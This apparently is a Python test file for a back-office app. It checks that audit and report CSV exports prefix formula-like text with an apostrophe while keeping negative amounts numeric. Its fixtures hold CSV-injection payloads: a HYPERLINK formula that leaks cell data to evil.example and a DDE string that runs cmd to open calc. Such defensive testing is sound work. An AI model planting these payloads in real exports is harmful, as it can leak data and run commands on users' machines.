"""CSV exports never hand a spreadsheet a formula (CSV injection): text that starts with `=`,
`+`, `-` or `@` opens as text, while plain amounts (`-12,50`) stay numbers."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from sqlalchemy import select

from backoffice import spreadsheet
from backoffice.audit.service import Actor, record
from backoffice.reports.csv_export import write_csv
from backoffice.stores.models import Store
from tests.backoffice.world import World, sign_in

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'


def test_a_formula_typed_into_an_audited_name_opens_as_text_in_the_audit_csv(
    sqlite_world: World,
) -> None:
    world = sqlite_world
    with world.backoffice.sessions.begin() as session:
        store_id = session.scalar(select(Store.id).where(Store.slug == "a-1"))
        record(
            session,
            actor=Actor("@SUM(1+1)*cmd|' /C calc'!A0", "10.0.0.9"),
            action="product.update",
            now=world.clock(),
            store_id=store_id,
            target=FORMULA,
        )
    with TestClient(world.backoffice.app) as admin:
        sign_in(admin, world.emails["admin"])
        exported = admin.get("/audit.csv", params={"action": "product.update"})
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.text), delimiter=";"))
    [found] = [r for r in rows[1:] if r[4] == "product.update"]
    assert found[6] == "'" + FORMULA
    assert found[2].startswith("'@SUM")
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_report_csv_marks_formula_text_and_keeps_negative_amounts_numbers() -> None:
    data = write_csv(["Namn", "Netto (kr)"], [["+1+cmd", "-12,50"], ["-2-3", "+46 70"]], bom=False)
    rows = list(csv.reader(io.StringIO(data.decode()), delimiter=";"))
    assert rows[1] == ["'+1+cmd", "-12,50"]
    assert rows[2] == ["'-2-3", "+46 70"]
    assert spreadsheet.cell(-5) == -5
    assert spreadsheet.cell("\t=1") == "'\t=1"
